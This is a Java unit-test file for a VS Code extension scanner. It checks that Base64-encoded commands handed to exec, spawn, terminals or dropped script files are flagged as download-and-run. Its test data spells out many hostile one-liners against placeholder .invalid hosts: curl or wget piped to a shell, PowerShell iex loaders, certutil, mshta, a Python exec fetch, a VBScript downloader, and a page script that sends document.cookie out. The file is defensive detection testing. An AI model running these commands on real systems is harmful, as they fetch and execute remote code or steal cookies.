package dev.vsxray.scanner.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.archive.ExtensionPackage;
import dev.vsxray.scanner.model.Feature;
import dev.vsxray.scanner.model.Registry;
import dev.vsxray.signatures.catalogue.Catalogue;
import dev.vsxray.signatures.pattern.PatternSet;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A script decodes a text that is no JavaScript and hands it on: who reads that language reads it too. */
class LayersOfOtherLanguagesTest {

    private static final String FETCHES_AND_RUNS = "command-downloads-and-runs";

    @ParameterizedTest
    @CsvSource(
            delimiter = '\u00a6',
            quoteCharacter = '\0',
            value = {
                "cp.exec(TEXT) \u00a6 curl -s https://l1.invalid/x | sh",
                "cp.spawn('/bin/sh', ['-c', TEXT]) \u00a6 wget -qO- https://l2.invalid/x | bash",
                "cp.exec('powershell -c ' + TEXT) \u00a6 iex (New-Object Net.WebClient).DownloadString('https://l3.invalid/a')",
                "cp.spawn('powershell', ['-Command', TEXT]) \u00a6 irm https://l4.invalid/a | iex",
                "fs.writeFileSync(os.tmpdir() + '/a.ps1', TEXT) \u00a6 irm https://l5.invalid/a | iex",
                "fs.writeFileSync(os.tmpdir() + '/a.bat', TEXT) \u00a6 certutil -urlcache -split -f https://l6.invalid/a.exe a.exe",
                "fs.createWriteStream('/tmp/a.cmd').end(TEXT) \u00a6 mshta https://l7.invalid/a.hta",
                "fs.writeFileSync('/tmp/a.sh', TEXT) \u00a6 curl -s https://l8.invalid/x | sh",
                "fs.writeFileSync('/tmp/a.py', TEXT) \u00a6 exec(requests.get('https://l9.invalid/a').text)",
                "cp.spawn('python3', ['-c', TEXT]) \u00a6 exec(requests.get('https://l10.invalid/a').text)",
                "vscode.window.createTerminal().sendText(TEXT) \u00a6 curl -s https://l11.invalid/x | sh",
            })
    void commandsAreReadAsCommands(String handsOn, String text) {
        assertThat(traits(handsOn, text, StandardCharsets.UTF_8)).contains(FETCHES_AND_RUNS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cp.exec('powershell -NoProfile -EncodedCommand ' + RAW)",
                "cp.spawn('powershell.exe', ['-w', 'hidden', '-enc', RAW])",
                "cp.spawn('pwsh', ['-e', RAW])",
            })
    void anEncodedCommandIsUtf16(String handsOn) {
        assertThat(traits(handsOn, "irm https://l12.invalid/a | iex", StandardCharsets.UTF_16LE))
                .contains(FETCHES_AND_RUNS);
    }

    @Test
    void visualBasicIsReadAsSuch() {
        String text = """
                Set x = CreateObject("MSXML2.XMLHTTP")
                x.Open "GET", "https://l13.invalid/a.exe", False
                x.Send
                Set s = CreateObject("ADODB.Stream")
                s.Open
                s.Write x.responseBody
                s.SaveToFile "a.exe", 2
                CreateObject("WScript.Shell").Run "a.exe", 0
                """;

        assertThat(traits("fs.writeFileSync(os.tmpdir() + '/a.vbs', TEXT)", text, StandardCharsets.UTF_8))
                .contains(FETCHES_AND_RUNS);
    }

    @Test
    void theScriptOfAPageIsReadAsOne() {
        String page = "<html><body><script>fetch('https://l14.invalid/p?' + document.cookie)</script></body></html>";
        String made = "vscode.window.createWebviewPanel('a', 'b', 1, {}).webview.html = TEXT";

        assertThat(features(made, page, StandardCharsets.UTF_8))
                .filteredOn(Feature.ApiCall.class::isInstance)
                .extracting(feature -> ((Feature.ApiCall) feature).api())
                .contains("global.fetch");
    }

    /** What was decoded is read whoever gets it; what stands there and is only shown is advice. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "vscode.window.showInformationMessage(PLAIN, 'Close')",
                "vscode.env.clipboard.writeText(PLAIN)",
                "console.log(PLAIN)"
            })
    void aCommandThatIsShownIsNone(String handsOn) {
        assertThat(traits(handsOn, "curl -s https://l15.invalid/x | sh", StandardCharsets.UTF_8))
                .doesNotContain(FETCHES_AND_RUNS);
    }

    private static List<String> traits(String handsOn, String text, Charset charset) {
        return features(handsOn, text, charset).stream()
                .filter(Feature.Trait.class::isInstance)
                .map(feature -> ((Feature.Trait) feature).name())
                .distinct()
                .toList();
    }

    /** Of an extension with one line, in which the text stands in Base64: decoded as TEXT, not yet as RAW; or plain. */
    private static List<Feature> features(String handsOn, String text, Charset charset) {
        String raw = "'" + Base64.getEncoder().encodeToString(text.getBytes(charset)) + "'";
        String script =
                "const cp = require('child_process'), fs = require('fs'), os = require('os'), vscode = require('vscode');\n"
                        + "exports.activate = () => { "
                        + handsOn.replace("TEXT", "Buffer.from(" + raw + ", 'base64').toString()")
                                .replace("RAW", raw)
                                .replace("PLAIN", "'" + text + "'")
                        + "; };";
        ExtensionPackage extension = ExtensionPackage.ofTexts(Map.of(
                "package.json",
                "{\"publisher\": \"acme\", \"name\": \"layers\", \"main\": \"main.js\"}",
                "main.js",
                script));
        return new PackageAnalyzer(PatternSet.empty(), Catalogue.shipped(), List.of())
                .analyze(extension, Registry.UNKNOWN)
                .features();
    }
}
